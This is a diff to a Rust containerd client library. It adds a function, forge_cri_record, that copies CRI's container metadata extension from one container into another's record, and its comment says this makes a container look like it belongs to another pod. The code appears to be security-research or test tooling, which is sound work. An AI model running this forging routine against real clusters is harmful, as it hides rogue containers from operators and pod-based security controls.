@@ -6,7 +6,7 @@ use std::path::Path;
 use anyhow::{Context, Result};
 use containerd_client::services::v1::{
     containers_client::ContainersClient, tasks_client::TasksClient, DeleteProcessRequest,
-    ExecProcessRequest, GetContainerRequest,
+    ExecProcessRequest, GetContainerRequest, UpdateContainerRequest,
 };
 use containerd_client::tonic::{metadata::MetadataValue, Request, Status};
 
@@ -86,6 +86,55 @@ pub fn delete_process(socket: &Path, ns: &str, id: &str, exec_id: &str) -> Resul
                 DeleteProcessRequest {
                     container_id: id.to_string(),
                     exec_id: exec_id.to_string(),
+                },
+            )?)
+            .await?;
+        Ok(())
+    })?
+}
+
+/// CRI's container record extension.
+const CRI_CONTAINER_EXTENSION: &str = "io.cri-containerd.container.metadata";
+
+/// Writes into container `to`'s record a copy of CRI's record extension of container `from`
+/// (a container CRI created), with its id changed to `to`: what any containerd client can do to
+/// make its own container look like a container of another pod.
+pub fn forge_cri_record(socket: &Path, ns: &str, from: &str, to: &str) -> Result<()> {
+    block_on(async {
+        let channel = containerd_client::connect(socket).await?;
+        let mut client = ContainersClient::new(channel);
+        let get = |id: &str| in_namespace(ns, GetContainerRequest { id: id.to_string() });
+        let template = client
+            .get(get(from)?)
+            .await?
+            .into_inner()
+            .container
+            .context("no record of the template")?;
+        let mut any = template
+            .extensions
+            .get(CRI_CONTAINER_EXTENSION)
+            .cloned()
+            .context("the template has no CRI record")?;
+        let mut meta: serde_json::Value = serde_json::from_slice(&any.value)?;
+        meta["Metadata"]["ID"] = serde_json::Value::String(to.to_string());
+        any.value = serde_json::to_vec(&meta)?;
+        let mut target = client
+            .get(get(to)?)
+            .await?
+            .into_inner()
+            .container
+            .context("no record of the target")?;
+        target
+            .extensions
+            .insert(CRI_CONTAINER_EXTENSION.to_string(), any);
+        client
+            .update(in_namespace(
+                ns,
+                UpdateContainerRequest {
+                    container: Some(target),
+                    update_mask: Some(prost_types::FieldMask {
+                        paths: vec![format!("extensions.{CRI_CONTAINER_EXTENSION}")],
+                    }),
                 },
             )?)
             .await?;
